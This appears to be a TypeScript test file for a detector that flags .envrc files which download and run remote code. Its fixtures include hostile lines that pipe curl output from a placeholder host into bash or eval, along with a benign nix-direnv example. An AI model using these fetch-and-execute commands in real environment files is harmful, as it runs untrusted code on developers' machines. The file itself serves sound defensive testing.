import { testLures } from '../../../test/support/lures.ts';
import detector from './envrc-runs-download.ts';

testLures(detector, {
  strong: {
    'downloads and runs': { '.envrc': 'export A=1\ncurl -s https://fixture.invalid/e | bash\n' },
    evaluated: { '.envrc': 'eval "$(curl -s https://fixture.invalid/e)"\n' },
  },
  weak: {
    fetches: { '.envrc': 'curl -s https://fixture.invalid/v > .v\n' },
    'leaves something running': { '.envrc': 'node tools/watch.js >/dev/null 2>&1 &\n' },
  },
  silent: {
    usual: {
      '.envrc':
        'if ! has nix_direnv_version || ! nix_direnv_version 3.0.4; then\n  source_url "https://raw.githubusercontent.com/nix-community/nix-direnv/3.0.4/direnvrc" "sha256-0"\nfi\nuse flake\nlayout node\nexport PATH=$PWD/bin:$PATH\ndotenv_if_exists .env\n',
    },
  },
});
